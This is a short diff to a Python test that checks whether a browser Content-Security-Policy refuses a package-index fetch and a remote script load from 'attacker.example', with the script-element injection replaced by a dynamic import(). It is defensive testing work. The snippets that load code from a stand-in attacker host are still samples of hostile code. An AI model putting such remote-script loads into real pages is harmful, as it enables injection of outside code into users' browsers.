@@ -323,9 +323,8 @@ def test_the_pages_policy_refused_nothing_the_game_did_and_refuses_another_origi
     # a package index or a script on another origin (what a crafted $PYGPI would point at) is refused
     fetch = "fetch('https://attacker.example/cdn/index-0.9.3-cp312.json').catch(() => {})"
     assert game.tab.evaluate(REFUSED.format(load=fetch)) == "connect-src"
-    script = ("const s = document.createElement('script'); s.src = 'https://attacker.example/pygame.js';"
-              " document.head.appendChild(s)")
-    assert game.tab.evaluate(REFUSED.format(load=script)) == "script-src-elem"
+    module = "import('https://attacker.example/pygame.js').catch(() => {})"
+    assert game.tab.evaluate(REFUSED.format(load=module)) == "script-src-elem"
     assert game.python("app.frames_shown > 0")  # and the game goes on
 
 
